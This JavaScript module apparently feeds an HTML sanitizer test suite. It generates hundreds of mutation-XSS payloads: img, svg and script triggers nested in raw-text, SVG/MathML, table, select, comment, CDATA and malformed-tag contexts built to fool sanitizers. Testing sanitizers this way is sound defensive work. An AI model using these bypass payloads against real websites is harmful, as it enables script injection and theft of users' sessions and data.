/**
 * Markup that means one thing to who cleans it and another to who shows it: text in what
 * holds no tags, what the parser moves or closes, comments of odd ends, broken syntax.
 */
import {combine, gaps} from './payloads.mjs';

const runs = ['<img src=x onerror=ran(1)>', '<svg onload=ran(1)>', '<script>ran(1)</script>'];

/** Elements whose content is text to one parser and markup to another. */
const raw =
  'style title textarea xmp noembed noframes noscript iframe plaintext script listing pre'.split(
    ' ',
  );
const foreign = ['', '<svg>', '<math>', '<svg><desc>', '<math><mtext>', '<svg><foreignObject>'];

const inRawText = combine(
  (around, tag, run) => `${around}<${tag}><a title="</${tag}>${run}">x</a></${tag}>`,
  foreign,
  raw,
  runs,
);

const inOddPlaces = [
  (run) => `<math><mtext><table><mglyph><style><!--</style>${run}-->`,
  (run) => `<math><mtext><table><mglyph><style><math><img title="--></style>${run}">`,
  (run) => `<math><mtext><mglyph><malignmark></mglyph><style></math>${run}</style>`,
  (run) =>
    `<math><annotation-xml encoding="text/html"><style>${run}</style></annotation-xml></math>`,
  (run) => `<math><annotation-xml encoding="application/xhtml+xml">${run}</annotation-xml></math>`,
  (run) => `<svg></p><style><a id="</style>${run}">`,
  (run) => `<svg></br><style><a title="</style>${run}">`,
  (run) => `<svg><style><![CDATA[</style>${run}]]></style></svg>`,
  (run) => `<svg><![CDATA[><p title="]]>${run}">`,
  (run) => `<math><![CDATA[${run}]]></math>`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math>${run}`,
  (run) => `<form id=x><div></form><form><div></form>${run}`,
  (run) => `<table><caption><table><td>${run}</table></caption></table>`,
  (run) => `<table>${run}<tr><td></table>`,
  (run) => `<table><tr><style></table>${run}</style>`,
  (run) => `<select><option><style></select>${run}</style>`,
  (run) => `<select><template><style></select>${run}</style></template>`,
  (run) => `<select><iframe></select>${run}`,
  (run) => `<select><math><mi></select>${run}`,
  (run) => `<template><style></template>${run}</style>`,
  (run) => `<noscript><p title="</noscript>${run}"></noscript>`,
  (run) => `<noscript><style></noscript>${run}</style>`,
  (run) => `<p><svg><p title="</svg>${run}"></p></svg>`,
  (run) => `<a><a><b><a title="</b>${run}">`,
  (run) => `<b><p></b><b title="</p>${run}">`,
  (run) => `<h1><h2 title="</h1>${run}"></h1>`,
  (run) => `<ruby><rt><rtc><style></ruby>${run}</style>`,
  (run) => `<frameset><noframes>${run}</noframes></frameset>`,
  (run) => `<head><title></head>${run}</title>`,
  (run) => `</body></html>${run}`,
  (run) => `<image><style></image>${run}</style>`,
  (run) => `<isindex prompt="${run}">`,
  (run) => `<listing>\n${run.replace('<', '&lt;')}</listing>`,
  (run) => `<pre>\n\n<textarea>\n</pre>${run}</textarea>`,
  (run) => `<textarea>\n<!--</textarea>${run}-->`,
  (run) => `<xmp><p title="</xmp>${run}"></xmp>`,
  (run) => `<!--${run}-->`,
  (run) => `<!-->${run}-->`,
  (run) => `<!--->${run}-->`,
  (run) => `<!--x--!>${run}-->`,
  (run) => `<!--x-- >${run}-->`,
  (run) => `<!--<!-->${run}-->`,
  (run) => `<!-- --><!--><p title="-->${run}">`,
  (run) => `<![CDATA[>${run}]]>`,
  (run) => `<![if gte IE 4]>${run}<![endif]>`,
  (run) => `<!--[if true]>${run}<![endif]-->`,
  (run) => `<?x >${run}?>`,
  (run) => `<?xml-stylesheet href="javascript:ran(1)"?>${run}`,
  (run) => `<!doctype x [<!ENTITY y "${run}">]>&y;`,
  (run) => `<!x>${run}`,
  (run) => `</x>${run}`,
  (run) => `</ x>${run}`,
  (run) => `<%${run}%>`,
  (run) => `<//${run}`,
  (run) => `< ${run.slice(1)}`,
  (run) => `<\0${run.slice(1)}`,
  (run) => `<x${run}`,
  (run) => `<x y="z"${run}`,
  (run) => `<x y="${run}`,
  (run) => `<x y=${run}`,
  (run) => `<x y='">${run}'>`,
  (run) => `<x y=\`>${run}\`>`,
  (run) => `"'>${run}`,
  (run) => `\`"'/>${run}<x y='`,
  (run) => `&"><${run}`,
  (run) => `${run.slice(0, -1)}`,
  (run) => `${run}${'<b>'.repeat(40)}`,
  (run) => `${'<div>'.repeat(600)}${run}`,
  (run) => `${'<math><mtext>'.repeat(200)}<table><mglyph><style>${run}`,
  (run) => `${'<svg><foreignObject>'.repeat(120)}<style>${run}</style>`,
  (run) => `${'x'.repeat(3100)}${run}`,
  (run) => `${' '.repeat(2990)}<p title="${run}`,
];

const broken = combine(
  (gap, form) => form(gap),
  [...gaps, '\0', '\u00a0', '\u000b', '//', '/>', '"', "'", '`', '='],
  [
    (gap) => `<img${gap}src=x${gap}onerror=ran(1)>`,
    (gap) => `<img src${gap}=${gap}x onerror${gap}=${gap}ran(1)>`,
    (gap) => `<svg${gap}onload=ran(1)//`,
    (gap) => `<script${gap}>ran(1)</script${gap}>`,
    (gap) => `<${gap}img src=x onerror=ran(1)>`,
  ],
);

export const mutations = [
  ...inRawText,
  ...combine((write, run) => write(run), inOddPlaces, runs),
  ...broken,
];
